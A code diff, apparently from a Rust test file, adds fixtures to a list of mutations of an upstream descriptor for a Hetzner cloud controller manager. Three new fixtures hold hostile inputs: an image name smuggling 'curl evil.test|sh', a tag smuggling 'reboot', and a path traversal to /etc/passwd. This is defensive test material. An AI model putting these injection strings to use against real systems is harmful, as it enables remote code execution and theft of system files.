@@ -118,6 +118,9 @@ const TAGS: &str =
 const UPSTREAM_FIXTURES: &[(&str, usize, &str, &str)] = &[
     ("readable", UPSTREAM_DESCRIPTOR, "[amd64, arm64, arm]", "[x86_64]"),
     ("readable", UPSTREAM_DESCRIPTOR, "[amd64, arm64, arm]", "[]"),
+    ("readable", UPSTREAM_DESCRIPTOR, "docker.io/hetznercloud/hcloud-cloud-controller-manager", "\"docker.io/x/y;curl evil.test|sh;#\""),
+    ("readable", UPSTREAM_DESCRIPTOR, TAGS, "tags: {\"1.35\": \"v1;reboot\"}"),
+    ("readable", UPSTREAM_DESCRIPTOR, "credentials:", "cloudConfig: {required: false, file: ../../etc/passwd}\ncredentials:"),
     ("readable", UPSTREAM_DESCRIPTOR, TAGS, "tags: {}"),
     ("readable", UPSTREAM_DESCRIPTOR, "\"hcloud://\"", "\"\""),
     ("readable", UPSTREAM_DESCRIPTOR, "HCLOUD_TOKEN: token", "HCLOUD_TOKEN: tokn"),
